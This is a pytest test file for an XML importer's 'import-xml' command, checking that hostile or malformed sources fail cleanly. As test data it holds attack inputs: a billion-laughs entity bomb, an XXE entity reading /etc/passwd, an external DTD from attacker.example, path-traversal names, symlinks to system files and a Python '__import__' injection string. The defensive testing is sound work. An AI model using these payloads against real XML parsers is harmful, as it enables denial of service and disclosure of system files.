"""import-xml against hostile and broken sources: every one is a located error with exit 1
(or a usage error with exit 2), never a traceback, and nothing is written."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml
from helpers import invoke

from draftsman_gen.importxml import expr

ROOT = '<draftsman project-name="Bank" xmlns="https://tracepaper.draftsman.io">{}</draftsman>'

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<draftsman project-name="&lol9;"/>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE draftsman [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<draftsman project-name="&secret;"/>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE draftsman SYSTEM "http://attacker.example/evil.dtd">
<draftsman project-name="x"/>
"""

CASES: dict[str, tuple[bytes, str, str]] = {  # name -> (model.xml, code, location, message)
    "billion-laughs": (BILLION_LAUGHS.encode(), "DG402", "model.xml:2:"),
    "external-entity": (EXTERNAL.encode(), "DG402", "model.xml:2:"),
    "external-dtd": (EXTERNAL_DTD.encode(), "DG402", "model.xml:2:"),
    "malformed": (b'<draftsman project-name="x">\n  <global>\n</draftsman>\n', "DG401",
                  "model.xml:3:3"),
    "unclosed-attribute": (b'<draftsman project-name="x/>', "DG401", "model.xml:1:"),
    "binary": (bytes(range(256)) * 4, "DG401", "model.xml:1:1"),
    "empty": (b"", "DG401", "model.xml:1:1"),
    "wrong-namespace": (b'<draftsman xmlns="urn:evil"/>', "DG403", "model.xml:1:1"),
    "foreign-child": (ROOT.format('\n<x:global xmlns:x="urn:evil"/>').encode(), "DG403",
                      "model.xml:2:1"),
    "wrong-root": (b'<?xml version="1.0"?>\n<project name="x"/>', "DG403", "model.xml:2:1"),
    "bad-encoding": (b'<?xml version="1.0" encoding="klingon"?><draftsman/>', "DG401",
                     "model.xml:1:1"),
    "latin1-undeclared": ('<draftsman project-name="caf\xe9"/>'.encode("latin-1"), "DG401",
                          "model.xml:1:"),
    "invalid-character": (b'<draftsman project-name="\x01"/>', "DG401", "model.xml:1:"),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_model_xml_is_a_located_error(name: str, tmp_path: Path) -> None:
    data, code, where = CASES[name]
    (tmp_path / "model.xml").write_bytes(data)
    out = tmp_path / "out"
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(out))
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    lines = result.stdout.splitlines()
    assert len(lines) == 1 and lines[0].startswith(where) and f"error[{code}]" in lines[0], lines
    assert "nothing was imported" in result.stderr
    assert "Traceback" not in result.output
    assert not out.exists()


def test_a_huge_file_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    model = tmp_path / "model.xml"
    with model.open("wb") as file:
        file.write(b'<draftsman project-name="x">')
        file.seek(9 * 1024 * 1024)
        file.write(b"</draftsman>")
    result = invoke("import-xml", str(model), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert "model.xml:1:1: error[DG401]: file is too large" in result.stdout


def test_deep_nesting_is_read_without_recursion(tmp_path: Path) -> None:
    depth = 50_000
    (tmp_path / "model.xml").write_text(
        ROOT.format("<global>" + "<x>" * depth + "</x>" * depth + "</global>"))
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert result.stdout == ("model.xml:1:80: warning[DG411]: element <x> in <global> not "
                             "imported: this importer does not know it\n")


def test_an_empty_repository_is_not_a_model(tmp_path: Path) -> None:
    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "notes.txt").write_text("hello")
    result = invoke("import-xml", str(tmp_path / "repo"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert result.stdout.startswith("repo:1:1: error[DG403]: no Draftsman model here")


def test_a_broken_file_in_a_repository_stops_the_import(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / "commands" / "Bank").mkdir(parents=True)
    (repo / "config.xml").write_text(ROOT.format(""))
    (repo / "commands" / "Bank" / "OpenRequested.xml").write_bytes(b"\x89PNG\r\n\x1a\n\0\0")
    (repo / "patterns").mkdir()
    (repo / "patterns" / "Code.xml").write_text(BILLION_LAUGHS)
    result = invoke("import-xml", str(repo), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "commands/Bank/OpenRequested.xml:1:1: error[DG401]: binary file, not XML",
        (
            "patterns/Code.xml:2:16: error[DG402]: refused: a DTD (<!DOCTYPE ...>), which "
            "could define entity expansion attacks; Draftsman models never contain one"
        ),
    ]
    assert not (tmp_path / "out").exists()


def test_binary_and_unknown_files_beside_the_model_are_reported_not_read(
    tmp_path: Path,
) -> None:
    repo = tmp_path / "repo"
    (repo / "docs").mkdir(parents=True)
    (repo / "config.xml").write_text(ROOT.format(""))
    (repo / "docs" / "diagram.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0")
    (repo / ".git").mkdir()
    (repo / ".git" / "HEAD").write_text("ref: refs/heads/main")
    result = invoke("import-xml", str(repo), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert result.stdout == ("docs/diagram.png:1:1: warning[DG411]: file not imported: not "
                             "part of a Draftsman repository's layout\n")


def test_out_must_be_empty_unless_forced(tmp_path: Path) -> None:
    (tmp_path / "model.xml").write_text(ROOT.format(""))
    out = tmp_path / "out"
    (out / ".git").mkdir(parents=True)
    (out / "domain" / "Old").mkdir(parents=True)
    (out / "README.md").write_text("mine")
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(out))
    assert result.exit_code == 2
    assert "is not empty; use --force" in result.stderr
    assert (out / "domain" / "Old").is_dir()
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(out), "--force")
    assert result.exit_code == 0, result.output
    assert not (out / "domain").exists()  # the old model is replaced ...
    assert (out / "README.md").read_text() == "mine" and (out / ".git").is_dir()  # ... only
    assert (out / "draftsman.yaml").read_text().endswith("name: Bank\n")


def test_out_that_is_a_file_and_a_missing_source_are_usage_errors(tmp_path: Path) -> None:
    (tmp_path / "model.xml").write_text(ROOT.format(""))
    (tmp_path / "file").write_text("x")
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "file"))
    assert result.exit_code == 2 and "is a file" in result.stderr
    result = invoke("import-xml", str(tmp_path / "nope.xml"), "--out", str(tmp_path / "o"))
    assert result.exit_code == 2 and "does not exist" in result.output


def test_an_unreadable_file_is_a_located_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "model.xml").write_text(ROOT.format(""))

    def refuse(self: Path) -> bytes:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "read_bytes", refuse)  # (chmod 0 does not stop root)
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert result.stdout == "model.xml:1:1: error[DG401]: cannot read the file: Permission denied\n"


def test_errors_in_json_and_github_formats(tmp_path: Path) -> None:
    (tmp_path / "model.xml").write_bytes(EXTERNAL.encode())
    args = ("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "out"))
    result = invoke(*args, "--error-format", "json")
    assert result.exit_code == 1
    (item,) = json.loads(result.stdout)
    assert (item["file"], item["line"], item["code"], item["severity"]) == (
        "model.xml", 2, "DG402", "error")
    result = invoke(*args, "--error-format", "github")
    assert result.stdout.startswith("::error file=model.xml,line=2,")


# -- the expression translation never runs anything and never raises ------------------------
@pytest.mark.parametrize("text", [
    "__import__('os').system('x')", "#" * 10_000, "'" * 9_999, '"""' + "x", "(" * 5_000,
    "#global.f(" * 500, "\x00\ud800", "24 * 60 ** 60 ** 60", "9" * 5_000, "1e999", "-(-(-1))",
])
def test_expression_translation_is_total(text: str) -> None:
    for scope in ("event", "flow"):
        result = expr.expression(text, scope)
        assert result is None or isinstance(result, str)
    assert expr.arithmetic(text) in (None, 1, -1)
    assert expr.handler_code(text) is None or isinstance(expr.handler_code(text), str)


@pytest.mark.parametrize("name", ["../../escaped", "", "a/b", ".hidden", "x\\y", "-x"])
def test_a_name_that_is_no_file_name_never_reaches_the_file_system(
    name: str, tmp_path: Path
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "model.xml").write_text(ROOT.format(
        f'\n<global><pattern name="{name}" regex="x"/></global>'))
    out = tmp_path / "in" / "out"
    result = invoke("import-xml", str(tmp_path / "in" / "model.xml"), "--out", str(out))
    assert result.exit_code == 1, result.output
    assert result.stdout.startswith("model.xml:2:9: error[DG404]: the name "), result.stdout
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["in", "model.xml"]


def test_two_elements_with_one_name_are_both_located(tmp_path: Path) -> None:
    (tmp_path / "model.xml").write_text(ROOT.format(
        '\n<global><pattern name="Code" regex="x"/>\n<pattern name="CODE" regex="y"/></global>'))
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1
    assert result.stdout == (
        "model.xml:3:1: error[DG404]: this element and the one at model.xml:2:9 would both be "
        "written to patterns/CODE.yaml: rename one in the source\n")


# -- found by a user's trial: each a regression test --------------------------------------
def _repo(tmp_path: Path, files: dict[str, str]) -> Path:
    repo = tmp_path / "repo"
    for rel, text in {"config.xml": ROOT.format(""), **files}.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    return repo


def test_symbolic_links_and_special_files_are_reported_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_text('<pattern name="Stolen" regex="s3cr3t"/>')
    repo = _repo(tmp_path, {"lib/ok.py": "def f(flow):\n    pass\n"})
    (repo / "patterns").mkdir()
    (repo / "patterns" / "Stolen.xml").symlink_to(secret)
    (repo / "lib" / "leak.py").symlink_to("/etc/hostname")
    (repo / "README.md").symlink_to("/etc/os-release")
    (repo / "expressions").symlink_to(repo)  # a loop
    os.mkfifo(repo / "patterns" / "Pipe.xml")
    out = tmp_path / "out"
    result = invoke("import-xml", str(repo), "--out", str(out))
    assert result.exit_code == 0, result.output
    note = "not read (the importer reads only regular files in the source)"
    assert result.stdout.splitlines() == [
        f"README.md:1:1: warning[DG411]: a symbolic link: {note}",
        f"expressions:1:1: warning[DG411]: a symbolic link: {note}",
        f"lib/leak.py:1:1: warning[DG411]: a symbolic link: {note}",
        f"patterns/Pipe.xml:1:1: warning[DG411]: not a regular file: {note}",
        f"patterns/Stolen.xml:1:1: warning[DG411]: a symbolic link: {note}",
    ]
    assert sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()) == [
        "draftsman.yaml", "lib/ok.py"]
    assert "description" not in (out / "draftsman.yaml").read_text()


def test_out_overlapping_the_source_is_refused(tmp_path: Path) -> None:
    repo = _repo(tmp_path, {"commands/Bank/OpenRequested.xml": '<event name="OpenRequested" '
                            'type="ActorEvent"><field name="id" type="String"/></event>'})
    for out in (repo, repo / "out", tmp_path):
        result = invoke("import-xml", str(repo), "--out", str(out), "--force")
        assert result.exit_code == 2 and "overlap" in result.stderr, out
    assert (repo / "commands" / "Bank" / "OpenRequested.xml").is_file()
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "model.xml").write_text(ROOT.format(""))
    result = invoke("import-xml", str(tmp_path / "m" / "model.xml"), "--out", str(tmp_path / "m"),
                    "--force")
    assert result.exit_code == 2 and "overlap" in result.stderr
    inside = invoke("import-xml", str(tmp_path / "m" / "model.xml"), "--out",
                    str(tmp_path / "m" / "out"))
    assert inside.exit_code == 0, inside.output  # beside model.xml is fine


def test_an_out_that_cannot_be_written_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "model.xml").write_text(ROOT.format(""))
    (tmp_path / "file").write_text("x")
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out",
                    str(tmp_path / "file" / "sub"))
    assert result.exit_code == 2 and "cannot write" in result.stderr, result.output


def test_lib_files_become_modules_or_are_reported(tmp_path: Path) -> None:
    repo = _repo(tmp_path, {"lib/__init__.py": "x = 1\n", "lib/my-module.py": "def f(flow):\n"
                            "    pass\n", "lib/Iban.py": "def g(flow):\n    pass\n"})
    (repo / "lib" / "blob.py").write_bytes(b"\xff\xfe\x00binary")
    out = tmp_path / "out"
    result = invoke("import-xml", str(repo), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (out / "lib").iterdir()) == ["iban.py", "my_module.py"]
    assert "lib/__init__.py:1:1: warning[DG411]: lib/__init__.py not copied" in result.stdout
    assert "lib/blob.py:1:1: warning[DG411]: lib module not copied" in result.stdout
    assert invoke("validate", str(out)).exit_code == 0


def test_utf16_with_a_bom_and_config_xml_as_the_source(tmp_path: Path) -> None:
    repo = _repo(tmp_path, {})
    (repo / "config.xml").write_bytes(
        ('<?xml version="1.0" encoding="UTF-16"?>' + ROOT.format("")).encode("utf-16"))
    result = invoke("import-xml", str(repo / "config.xml"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out" / "draftsman.yaml").read_text().endswith("name: Bank\n")


def test_attributes_of_a_foreign_namespace_never_replace_ours(tmp_path: Path) -> None:
    (tmp_path / "model.xml").write_text(ROOT.format(
        '\n<global><pattern regex="x" name="Code" x:name="Evil" xmlns:x="urn:x"/></global>'))
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    assert "attribute 'name' of <pattern> in the namespace 'urn:x' not imported" in result.stdout
    assert [p.name for p in (tmp_path / "out" / "patterns").iterdir()] == ["Code.yaml"]


def test_huge_and_deep_values_are_kept_and_marked_not_crashes(tmp_path: Path) -> None:
    deep = "[" * 900 + "]" * 900
    (tmp_path / "model.xml").write_text(ROOT.format(f"""
<events><event name="GoRequested" type="ActorEvent"><field name="id" type="String"/></event>
<event name="Went" type="DomainEvent" source="Sd.Thing"><field name="id" type="String"/></event>
</events>
<domain><subdomain name="Sd"><aggregate name="Thing" business-key="id">
<field name="id" type="String"/>
<event-handler on="Went"><mapping target="id" operand="set" value="id"/></event-handler>
<command name="Go" create-command="true">
<trigger source="GoRequested" key-field="id" idempotency-key="id"
 idempotency-ttl="{'-' * 200_000}1"/>
<processor type="emit-event" ref="Went"><mapping target="id" value="#flow.id"/></processor>
<test-case name="Deep" trigger-event="GoRequested"><input name="id" type="String" value="a"/>
<state>{{"id": {deep}}}</state><expected domain-event="Went"/></test-case>
</command></aggregate></subdomain></domain>"""))
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert any("idempotency-ttl '-----" in line and "(200,001 characters)" in line
               and "warning[DG412]" in line for line in lines), lines
    assert any("state '{\"id\":" in line and "warning[DG412]" in line for line in lines)
    assert max(len(line) for line in lines) < 400
    checked = invoke("validate", str(tmp_path / "out"))
    assert checked.exit_code == 1 and checked.exception is None or isinstance(
        checked.exception, SystemExit)


def test_values_that_yaml_reads_as_something_else_are_quoted(tmp_path: Path) -> None:
    values = ["what?", "?x", ":x", "a: b", "- x", "x #y", "yes", "null", "1e3", "0x1F",
              "~", "@at", "`tick`", "!tag", "&anchor", "*alias", "%x", "|", ">", "'q", '"dq',
              "tab\there", " lead", "trail ", "\u0085nel", "a\u2028b", "ctl\x7f"]
    inputs = "".join(f'<input name="v{n}" type="String" value="{_xml(v)}"/>'
                     for n, v in enumerate(values))
    (tmp_path / "model.xml").write_text(ROOT.format(f"""
<events><event name="GoRequested" type="ActorEvent"><field name="id" type="String"/>{"".join(
f'<field name="v{n}" type="String"/>' for n in range(len(values)))}</event>
<event name="Went" type="DomainEvent" source="Sd.Thing"><field name="id" type="String"/></event>
</events>
<domain><subdomain name="Sd"><aggregate name="Thing" business-key="id">
<field name="id" type="String"/>
<event-handler on="Went"><mapping target="id" operand="set" value="id"/></event-handler>
<command name="Go" create-command="true"><trigger source="GoRequested" key-field="id"/>
<processor type="emit-event" ref="Went"><mapping target="id" value="#flow.id"/></processor>
<test-case name="Odd" trigger-event="GoRequested"><input name="id" type="String" value="a"/>
{inputs}<expected domain-event="Went"/></test-case>
</command></aggregate></subdomain></domain>"""))
    out = tmp_path / "out"
    result = invoke("import-xml", str(tmp_path / "model.xml"), "--out", str(out))
    assert result.exit_code == 0, result.output
    flow = yaml.safe_load((out / "domain/Sd/Thing/behavior-flows/Go.yaml").read_text())
    got = flow["test-cases"][0]["input"]
    assert [got[f"v{n}"] for n in range(len(values))] == values
    assert invoke("validate", str(out)).exit_code == 0


def _xml(value: str) -> str:
    return "".join(c if c.isalnum() else f"&#{ord(c)};" for c in value)
